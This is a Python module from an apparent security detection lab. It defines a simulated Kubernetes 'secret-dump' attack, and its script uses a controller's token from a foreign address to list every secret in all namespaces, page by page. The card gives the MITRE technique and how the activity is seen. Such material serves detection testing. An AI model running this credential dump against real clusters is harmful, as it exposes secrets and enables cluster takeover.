"""Attack: every secret of the cluster listed at once.

Found by `catalog`; run by `run`. What it does and how it should be seen stands in the card.
"""

from __future__ import annotations

from riverwatch import vocabulary
from riverwatch.lab.attacks import base, context, paths

CARD = base.Card(
    id="secret-dump",
    title="Every secret of the cluster listed at once",
    technique=base.Technique(id="T1552.007", name="Container API", tactic="Credential Access"),
    use_case=vocabulary.UseCase.SECRET_ACCESS,
    subtlety=base.Subtlety.OBVIOUS,
    does=(
        "Uses the token of a controller that may read secrets everywhere to list all of them in one request, "
        "page by page, from a foreign client."
    ),
    seen_by="A list of secrets over all namespaces by a client and from an address the controller never used.",
    cleans_up="Leaves nothing behind: it only reads.",
    victim=base.Part.SECRET_SYNC,
    reach=base.Reach.CLUSTER,
    catalogues=(
        "Microsoft: List K8S secrets",
        "stratus:k8s.credential-access.dump-secrets",
    ),
)
"""What a reader should know before it is run."""


def script(ctx: context.AttackContext) -> base.Script:
    """Yield the requests of the story, in order."""
    victim = ctx.victim(base.Part.SECRET_SYNC)
    thief = ctx.act_as(victim, source_ip=ctx.stranger_ip(), user_agent=context.KUBECTL)
    query: dict[str, object] = {"limit": 500}
    while True:
        answer = yield thief.get(paths.core("secrets"), query)
        token = answer.at("metadata", "continue")
        if not token:
            break
        query = {"limit": 500, "continue": token}


ATTACK = base.Attack(card=CARD, script=script)
"""The entry that `catalog` looks for."""
